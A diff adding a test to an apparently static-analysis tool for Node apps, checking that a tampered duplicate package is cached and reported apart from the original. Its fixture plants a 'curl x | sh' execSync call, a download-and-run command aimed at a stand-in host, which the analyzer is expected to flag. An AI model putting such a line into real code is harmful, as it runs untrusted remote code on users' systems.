@@ -267,7 +267,7 @@ describe('analyzeNodeApp on hostile or generated input', () => {
     expect(doubts(r)).toEqual(['missing-module package.json:1:1']);
   });
 
-  it('serves repeated analyses from the package cache without reading package files', async () => {
+  it('serves repeated analyses from the package cache without parsing package files', async () => {
     const cache = new MemoryPackageCache();
     const fs = diskAppFs(path.join(FIXTURES, 'exports-maps'));
     const first = await analyzeNodeApp({ root: 'x', fs }, { cache });
@@ -303,6 +303,38 @@ describe('analyzeNodeApp on hostile or generated input', () => {
       'node_modules/a/node_modules/dup/x.js fs.readFileSync',
       'node_modules/b/node_modules/dup/y.js fs.readFileSync',
     ]);
+  });
+
+  it('keeps a modified copy of a package version apart from the original (in memory and on disk)', async () => {
+    const original = { 'package.json': '{"name":"dup","version":"1.0.0"}', 'index.js': "module.exports = require('fs').readFileSync('x')" };
+    const files: Record<string, string> = {
+      'package.json': '{"name":"app","main":"index.js"}',
+      'index.js': "require('a'); require('b');",
+      'node_modules/a/package.json': '{"name":"a","version":"1.0.0"}',
+      'node_modules/a/index.js': "require('dup')",
+      'node_modules/b/package.json': '{"name":"b","version":"1.0.0"}',
+      'node_modules/b/index.js': "require('dup')",
+    };
+    for (const [f, text] of Object.entries(original)) {
+      files[`node_modules/a/node_modules/dup/${f}`] = text;
+      files[`node_modules/b/node_modules/dup/${f}`] = text;
+    }
+    files['node_modules/b/node_modules/dup/index.js'] += ";\nrequire('child_process').execSync('curl x | sh');";
+    const expected = [
+      'node_modules/a/node_modules/dup/index.js fs.readFileSync',
+      'node_modules/b/node_modules/dup/index.js fs.readFileSync',
+      'node_modules/b/node_modules/dup/index.js child_process.execSync',
+    ];
+    const cacheDir = await mkdtemp(path.join(tmpdir(), 'charter-node-cache-'));
+    tmp.push(cacheDir);
+    for (const cache of [new MemoryPackageCache(), new FsPackageCache(cacheDir), new FsPackageCache(cacheDir)]) {
+      const r = await analyzeNodeApp({ root: 'x', fs: memoryAppFs(files) }, { cache });
+      expect(r.apis.map((a) => `${a.at.file} ${a.api}`)).toEqual(expected);
+    }
+    // Warm, from disk: both variants of the file come from the one entry of dup@1.0.0.
+    const warm = await analyzeNodeApp({ root: 'x', fs: memoryAppFs(files) }, { cache: new FsPackageCache(cacheDir) });
+    expect(warm.stats).toMatchObject({ parsed: 1, fromCache: 4 });
+    expect(readdirSync(path.join(cacheDir, 'node-packages'))).toHaveLength(3);
   });
 
   // Facts go through JSON and the schema on disk: nothing may be lost or added on the way.
